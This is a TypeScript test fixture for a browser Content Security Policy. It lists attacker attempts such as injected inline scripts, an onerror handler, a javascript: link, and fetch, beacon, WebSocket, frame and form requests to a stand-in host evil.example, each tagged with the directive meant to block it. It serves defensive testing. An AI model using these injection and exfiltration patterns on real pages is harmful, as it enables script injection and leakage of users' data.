/** Attempts of an attacker who can already change the page. Each runs in the page and is blocked by its policy. */
export const attempts: readonly {
  readonly what: string
  readonly directive: string
  readonly run: () => void
}[] = [
  {
    what: 'a script written into the page',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script')
      script.textContent = '__hit(1)'
      document.body.append(script)
    },
  },
  {
    what: 'a script of another site',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.body.append(script)
    },
  },
  {
    what: 'a script of a data address',
    directive: 'script-src-elem',
    run: () => {
      const script = document.createElement('script')
      script.src = 'data:text/javascript,__hit(2)'
      document.body.append(script)
    },
  },
  {
    what: 'an event handler in an attribute',
    directive: 'script-src-attr',
    run: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="__hit(3)">')
    },
  },
  {
    what: 'an address that runs',
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('a')
      link.href = 'javascript:__hit(4)'
      document.body.append(link)
      link.click()
    },
  },
  { what: 'a text as a timer', directive: 'script-src', run: () => void setTimeout('__hit(5)' as never, 0) },
  {
    what: 'a picture of another site',
    directive: 'img-src',
    run: () => {
      new Image().src = 'https://evil.example/pixel.png'
    },
  },
  {
    what: 'a request to another site',
    directive: 'connect-src',
    run: () => void fetch('https://evil.example/').catch(() => undefined),
  },
  {
    what: 'a beacon to another site',
    directive: 'connect-src',
    run: () => void navigator.sendBeacon('https://evil.example/', 'x'),
  },
  {
    what: 'a socket to another site',
    directive: 'connect-src',
    run: () => void new WebSocket('wss://evil.example/'),
  },
  {
    what: 'a frame of another site',
    directive: 'frame-src',
    run: () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
    },
  },
  {
    what: 'a plug-in',
    directive: 'object-src',
    run: () => {
      const object = document.createElement('object')
      object.data = 'https://evil.example/x.swf'
      document.body.append(object)
    },
  },
  {
    what: 'a style written into the page',
    directive: 'style-src-elem',
    run: () => {
      const style = document.createElement('style')
      style.textContent = '*{display:none}'
      document.body.append(style)
    },
  },
  {
    what: 'another base of all addresses',
    directive: 'base-uri',
    run: () => {
      const base = document.createElement('base')
      base.href = 'https://evil.example/'
      document.head.append(base)
    },
  },
  {
    what: 'a form sent to another site',
    directive: 'form-action',
    run: () => {
      const form = document.createElement('form')
      form.action = 'https://evil.example/'
      document.body.append(form)
      form.submit()
    },
  },
]
